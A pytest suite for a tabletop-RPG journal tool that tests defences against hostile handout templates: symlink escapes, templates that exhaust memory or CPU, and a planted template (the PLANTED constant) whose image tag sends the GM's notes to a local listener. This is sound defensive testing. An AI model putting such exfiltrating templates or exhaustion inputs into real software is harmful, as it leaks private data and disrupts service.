"""Hostile handout templates in an override folder (`--templates DIR`, `JOURNAL_TEMPLATES`):
a link out of the folder is refused, and every failure of a template (arithmetic, types, a
number or text grown without bound) is one `Error:` line naming the template and its line,
never an "unexpected failure". A `templates/` folder beside a shared database is never used
unless the GM names it; a handout rendered with overrides says so; HTML handouts carry a
Content-Security-Policy that lets them call nowhere."""

from __future__ import annotations

from pathlib import Path

import pytest
from support.cli import Cli

SECRET = "the contents of another file"


@pytest.fixture
def night(runner: Cli) -> Cli:
    runner("campaign", "new", "night", "--ruleset", "horror-factor")
    runner("session", "start", "One")
    runner("note", "the lights go out")
    return runner


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    secret = tmp_path / "elsewhere" / "secret.txt"
    secret.parent.mkdir()
    secret.write_text(SECRET, encoding="utf-8")
    return secret


def test_a_template_linking_out_of_its_folder_is_refused(
    night: Cli, tmp_path: Path, outside: Path
) -> None:
    folder = tmp_path / "mine"
    folder.mkdir()
    (folder / "recap.md.j2").symlink_to(outside)
    result = night.refused("recap", "--templates", str(folder))
    assert f"links to {outside}, outside that folder" in result.stderr
    assert SECRET not in result.output


def test_a_folder_linking_out_is_refused(night: Cli, tmp_path: Path, outside: Path) -> None:
    folder = tmp_path / "templates"
    folder.mkdir()
    (folder / "ruleset").symlink_to(outside.parent, target_is_directory=True)
    (outside.parent / "parts.md.j2").write_text(SECRET, encoding="utf-8")
    result = night.refused("recap", "--templates", str(folder))
    assert "outside that folder" in result.stderr and SECRET not in result.output


def test_links_inside_the_folder_are_followed(night: Cli, tmp_path: Path) -> None:
    folder = tmp_path / "mine"
    (folder / "parts").mkdir(parents=True)
    (folder / "parts" / "recap.md.j2").write_text("OURS {{ session.title }}\n", encoding="utf-8")
    (folder / "recap.md.j2").symlink_to(folder / "parts" / "recap.md.j2")
    assert night("recap", "--templates", str(folder)).stdout == "OURS One\n"
    (tmp_path / "link").symlink_to(folder, target_is_directory=True)  # the folder: a link
    assert night("recap", "--templates", str(tmp_path / "link")).stdout == "OURS One\n"


@pytest.mark.parametrize(
    ("body", "says"),
    [
        ("{{ 1/0 }}", "at line 1 of recap.md.j2: ZeroDivisionError: division by zero"),
        ("{{ 7 // 0 }}", "ZeroDivisionError"),
        ("{{ 5 % 0 }}", "ZeroDivisionError"),
        ('{{ "a" + 1 }}', "TypeError: can only concatenate str"),
        ("{{ session.number - 'x' }}", "TypeError: unsupported operand"),
        ("{{ session.nope + 1 }}", "UndefinedError: 'dict object' has no attribute 'nope'"),
        ("line one\n{{ story[99] }}", "at line 2 of recap.md.j2: UndefinedError"),
        ("{{ 10.0 ** 1000 }}", "OverflowError"),
        ("{{ (2 ** 64) ** 4096 }}", "too large a number for a handout"),
        ('{{ "x" * 100000000 }}', "repeated that often is too long"),
        ("{{ [0] * 10 ** 8 }}", "repeated that often is too long"),
        ("{{ lipsum(10 ** 6) }}", "UndefinedError: 'lipsum' is undefined"),
        ('{{ "%s %s" % 1 }}', "TypeError: not enough arguments"),
        ("{{ range(10 ** 9) | list }}", "OverflowError: Range too big"),
        ("{% for x in %}", "at line 1 of recap.md.j2: TemplateSyntaxError"),
        ('{{ {} | dictsort(by="x") }}', "FilterArgumentError"),
    ],
)
def test_a_template_that_fails_says_where(night: Cli, tmp_path: Path, body: str, says: str) -> None:
    folder = tmp_path / "templates"
    folder.mkdir()
    (folder / "recap.md.j2").write_text(body, encoding="utf-8")
    stderr = night.refused("recap", "--templates", str(folder)).stderr
    assert stderr.startswith("Error: template recap.md.j2 failed"), stderr
    assert says in stderr, stderr
    assert "unexpected failure" not in stderr


def test_ordinary_arithmetic_still_works(night: Cli, tmp_path: Path) -> None:
    folder = tmp_path / "templates"
    folder.mkdir()
    body = "{{ 2 ** 10 }} {{ 3 * 4 }} {{ '-' * 3 }} {{ [1] * 2 }} {{ session.number * 2 }}\n"
    (folder / "recap.md.j2").write_text(body, encoding="utf-8")
    assert night("recap", "--templates", str(folder)).stdout == "1024 12 --- [1, 1] 2\n"


PLANTED = '<img src="http://127.0.0.1:8765/x?{{ story | map(attribute="text") | join }}">'


@pytest.mark.parametrize("fmt", ["md", "html"])
def test_templates_beside_the_database_are_never_used_silently(
    night: Cli, tmp_path: Path, fmt: str
) -> None:
    """Someone else's override beside a shared database made the GM's copy call out with
    the GM-only notes."""
    night("note", "the GM's secret", "--gm-only")
    planted = tmp_path / "templates"
    planted.mkdir()
    (planted / f"recap.{fmt}.j2").write_text(PLANTED, encoding="utf-8")
    result = night("recap", "--for", "gm", "--format", fmt)
    assert "127.0.0.1:8765" not in result.stdout and "the lights go out" in result.stdout
    assert "templates from" not in result.stderr


def test_overrides_the_gm_names_are_used_and_said(
    night: Cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = tmp_path / "mine"
    folder.mkdir()
    (folder / "recap.md.j2").write_text("OURS {{ session.title }}\n", encoding="utf-8")
    result = night("recap", "--templates", str(folder))
    assert result.stdout == "OURS One\n"
    assert result.stderr == f"Notice: templates from {folder}\n"
    monkeypatch.setenv("JOURNAL_TEMPLATES", str(folder))
    result = night("recap", "-o", "out.md")
    assert (tmp_path / "out.md").read_text() == "OURS One\n"
    assert f"Notice: templates from {folder}" in result.stderr
    night("character", "add", "Linda", "--reaction", "12", "--willpower", "10",
          "--hardness", "2", "--training", "none")
    (folder / "arc.md.j2").write_text("ARC\n", encoding="utf-8")
    assert "Notice: templates from" in night("arc", "Linda").stderr


CSP = "default-src 'none'; style-src 'unsafe-inline'; img-src data:"


@pytest.mark.parametrize(
    "args",
    [
        ["recap", "--for", "players"],
        ["recap", "--for", "gm"],
        ["recap", "--for", "Linda"],
        ["arc", "Linda"],
    ],
)
def test_every_html_handout_carries_a_content_security_policy(
    night: Cli, args: list[str]
) -> None:
    night("character", "add", "Linda", "--reaction", "12", "--willpower", "10",
          "--hardness", "2", "--training", "none")
    html = night(*args, "--format", "html").stdout
    head = html[: html.index("</head>")]
    assert f'<meta http-equiv="Content-Security-Policy" content="{CSP}">' in head
    assert head.index("Content-Security-Policy") < head.index("<style>")
